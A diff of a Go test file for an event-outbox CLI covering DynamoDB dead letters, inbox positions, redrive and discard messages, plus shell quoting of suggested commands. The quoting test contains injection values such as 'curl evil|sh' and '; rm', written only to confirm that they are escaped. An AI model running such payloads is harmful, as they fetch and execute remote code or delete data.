@@ -3,7 +3,6 @@ package main
 import (
 	"context"
 	"errors"
-	"fmt"
 	"log/slog"
 	"strings"
 	"testing"
@@ -37,8 +36,7 @@ func orderedIn(t *testing.T, w *world) *ordered {
 	var err error
 	o.letters, err = outbox.NewDeadLetterTable(w.dynamodb, "dead-letters", "balances")
 	require.NoError(t, err)
-	box, err := outbox.NewInbox(w.dynamodb, "inbox", "balances")
-	require.NoError(t, err)
+	box := o.box(t)
 	writer, err := outbox.NewWriter(w.dynamodb, "events")
 	require.NoError(t, err)
 	o.consumer, err = outbox.NewConsumer(outbox.WithLogger(slog.New(slog.DiscardHandler)), outbox.WithInbox(box),
@@ -51,6 +49,12 @@ func orderedIn(t *testing.T, w *world) *ordered {
 		return outbox.Effects{}, nil
 	})
 	return o
+}
+
+func (o *ordered) box(t *testing.T) *outbox.Inbox {
+	box, err := outbox.NewInbox(o.dynamodb, "inbox", "balances")
+	require.NoError(t, err)
+	return box
 }
 
 // write writes events of account-7, and returns them as the stream delivers them, long after they were written.
@@ -224,7 +228,7 @@ func TestAnIDThatIsUsedAgainIsForgottenAndRedriven(t *testing.T) {
 	o.deliver(t, again)
 	show := []string{"order", "show", "--consumer", "balances", "--dead-letters", "dead-letters", "account-7"}
 	text := o.ok(t, show...)
-	require.Contains(t, text, "\n1 is late, or was passed, and what waits behind its letter waits for it. To remove it: outbox dead discard --table dead-letters --consumer balances --inbox inbox --id account-7#account-7%231. "+
+	require.Contains(t, text, "\n1 is late, and what waits behind its letter waits for it. To remove it: outbox dead discard --table dead-letters --consumer balances --inbox inbox --id account-7#account-7%231. "+
 		"If the aggregate's id is used again: outbox order forget --inbox inbox --consumer balances --table events account-7, and redrive\n")
 	require.Equal(t, outbox.RedriveResult{Failed: 1}, o.redrive(t))
 	o.ok(t, "order", "forget", "--inbox", "inbox", "--consumer", "balances", "--table", "events", "account-7", "--yes")
@@ -233,13 +237,33 @@ func TestAnIDThatIsUsedAgainIsForgottenAndRedriven(t *testing.T) {
 	require.Equal(t, int64(1), o.show(t).Position)
 }
 
+// What a redrive alone can bring on: the missing row is there again, or the letter's event was handled meanwhile.
+func TestLettersThatNothingHoldsUpWaitForARedrive(t *testing.T) {
+	o := newOrdered(t)
+	o.deliver(t, o.write(t, 1, 3, 4)...)
+	o.write(t, 2)
+	show := []string{"order", "show", "--consumer", "balances", "--dead-letters", "dead-letters", "account-7"}
+	text := o.ok(t, show...)
+	require.Contains(t, text, "\nnothing is before 2 any more, and dead letters wait. To handle them: outbox dead redrive --table dead-letters --consumer balances --aggregate account-7\n")
+
+	other := orderedIn(t, o.world) // another process, with no letters
+	var err error
+	other.consumer, err = outbox.NewConsumer(outbox.WithLogger(slog.New(slog.DiscardHandler)), outbox.WithInbox(o.box(t)), outbox.WithOrder(o.dynamodb, "events", time.Time{}))
+	require.NoError(t, err)
+	outbox.Ignore(other.consumer, "ORDER_CREATED")
+	other.deliver(t, o.write(t, 5)...)
+	text = o.ok(t, show...)
+	require.Contains(t, text, "\n3 was handled or passed, and its letter is there still. To remove it, and to handle what waits behind it: outbox dead redrive ")
+	require.Equal(t, outbox.RedriveResult{Redriven: 2}, o.redrive(t))
+}
+
 func TestADiscardMovesThePosition(t *testing.T) {
 	o := newOrdered(t)
 	o.failing[2] = true
 	o.deliver(t, o.write(t, 1, 2, 3, 4)...)
 	require.Equal(t, []int64{2, 3, 4}, o.show(t).numbers())
 	text := o.ok(t, "order", "show", "--consumer", "balances", "--dead-letters", "dead-letters", "account-7")
-	require.Contains(t, text, "\n2 is a dead letter, and the aggregate waits for it. Cure the cause, then: outbox dead redrive --table dead-letters --consumer balances --id account-7#account-7%232\n")
+	require.Contains(t, text, "\n2 is a dead letter, and the aggregate waits for it. Cure the cause, then: outbox dead redrive --table dead-letters --consumer balances --aggregate account-7\n")
 
 	discard := []string{"dead", "discard", "--consumer", "balances"}
 	r := o.run(t, append(discard, "--all", "--yes")...)
@@ -301,10 +325,12 @@ func TestDeadLettersSayWhatTheirAggregateWaitsFor(t *testing.T) {
 	require.Regexp(t, `order +by the sequences of table events\nposition +#2 is the next one of its aggregate\n`, o.ok(t, show...))
 	require.Equal(t, int64(2), decode[letterJSON](t, o.ok(t, append(show, "-o", "json")...)).WaitsFor)
 	o.run(t, "order", "pass", "--consumer", "balances", "account-7", "2", "--yes")
-	require.Contains(t, o.ok(t, show...), "#2 was passed already: the aggregate waits for #3\n")
+	require.Contains(t, o.ok(t, show...), "#2 is at or below the position: the aggregate waits for #3\n")
 
 	// The inbox may know the consumer by another name.
-	require.Contains(t, o.ok(t, append(list, "--inbox-consumer", "others")...), "the aggregate waits for #1\n")
+	r := o.run(t, append(list, "--inbox-consumer", "others")...)
+	require.Contains(t, r.out, "the aggregate waits for #1\n")
+	require.Equal(t, 1, strings.Count(r.err, "note: inbox inbox has no position of aggregate account-7 for consumer others"))
 }
 
 // A key that DynamoDB leaves unread is asked for again, and never taken for a row that is missing.
@@ -326,7 +352,7 @@ func TestAKeyThatWasNotReadIsNoMissingRow(t *testing.T) {
 	r := o.run(t, "order", "show", "--consumer", "balances", "account-7")
 	require.Equal(t, exitFailed, r.code)
 	require.Empty(t, r.out)
-	require.Contains(t, r.err, fmt.Sprintf("DynamoDB left keys unread %d times", mostRepeats))
+	require.Contains(t, r.err, "DynamoDB left keys unread 10 times")
 }
 
 func TestATableOfOtherNamesIsLookedInto(t *testing.T) {
@@ -375,4 +401,6 @@ func TestACommandIsQuotedForTheShell(t *testing.T) {
 	require.Equal(t, `outbox order pass --consumer 'a b' 'it'\''s #1; rm' 2`, command("order", "pass", "--consumer", "a b", "it's #1; rm", "2"))
 	require.Equal(t, `outbox dead discard --id a#b%231`, command("dead", "discard", "--id", "a#b%231"))
 	require.Equal(t, `outbox order show ''`, command("order", "show", ""))
+	require.Equal(t, `outbox dead discard --id '--x;curl evil|sh#1'`, command("dead", "discard", "--id", "--x;curl evil|sh#1"))
+	require.Equal(t, `outbox order pass --inbox i --consumer c --table t '--' '-7' 2`, orderCommand("pass", "i", "c", "t", "-7", "2"))
 }
